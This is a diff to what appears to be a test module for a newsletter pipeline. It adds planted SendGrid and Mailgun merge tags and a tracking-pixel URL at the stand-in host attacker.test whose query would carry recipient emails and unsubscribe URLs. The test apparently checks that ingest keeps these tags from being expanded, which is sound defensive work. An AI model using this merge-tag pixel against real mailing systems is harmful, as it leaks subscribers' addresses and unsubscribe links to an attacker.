@@ -49,10 +49,12 @@ PLANTED = [
     "%recipient.subscriber_id%", "%unsubscribe_url%", "%tag_unsubscribe_url%", "%mailing_list_unsubscribe_url%",
     "-publisher_email-", "-publisher_unsubscribe_url-", "-publisher_unsubscribe_url_html-", "-publisher_preferences_url-",
     "slot-00000000000000000000000000000000-email", "slot-00000000000000000000000000000000-unsubscribe-url",
+    "%x%unsubscribe_url%", "%x%recipient_email%", "%recipient.x%unsubscribe_url%",  # a variable sharing its "%" with another
 ]  # fmt: skip
 # The ones a title must still show, literally, in every part (the rest are checked where they survive ingest).
-MUST_SURVIVE = ["%%EMAIL%%", "%%UNSUBSCRIBE_URL%%", "%recipient.unsubscribe_url%", "%unsubscribe_url%", "-publisher_email-"]
-PIXEL = "https://attacker.test/px.png?e=%%EMAIL%%&u=%%UNSUBSCRIBE_URL%%&m=%recipient.email%&g=-publisher_email-"
+MUST_SURVIVE = ["%%EMAIL%%", "%%UNSUBSCRIBE_URL%%", "%recipient.unsubscribe_url%", "%unsubscribe_url%", "-publisher_email-",
+                "%x%unsubscribe_url%", "%x%recipient_email%"]
+PIXEL = "https://attacker.test/px.png?e=%%EMAIL%%&u=%%UNSUBSCRIBE_URL%%&m=%recipient.email%&g=-publisher_email-&x=%x%unsubscribe_url%"
 LINK = "https://attacker.test/read?u=%recipient.unsubscribe_url%&p=%%PREFERENCES_URL%%&t=%unsubscribe_url%"
 # SendGrid's subscription-tracking tag. Ingest already strips it from titles and summaries (text only, markup
 # removed); the request also switches subscription tracking off (tests/test_api_sendgrid.py checks that).
@@ -271,7 +273,7 @@ def _sendgrid(body: bytes) -> tuple[list[dict[str, Any]], bytes]:
     return out, b""
 
 
-MAILGUN_OWN = ("unsubscribe_url", "tag_unsubscribe_url", "mailing_list_unsubscribe_url")
+MAILGUN_OWN = ("unsubscribe_url", "tag_unsubscribe_url", "mailing_list_unsubscribe_url", "recipient_email")
 
 
 def _mailgun(body: bytes) -> tuple[list[dict[str, Any]], bytes]:
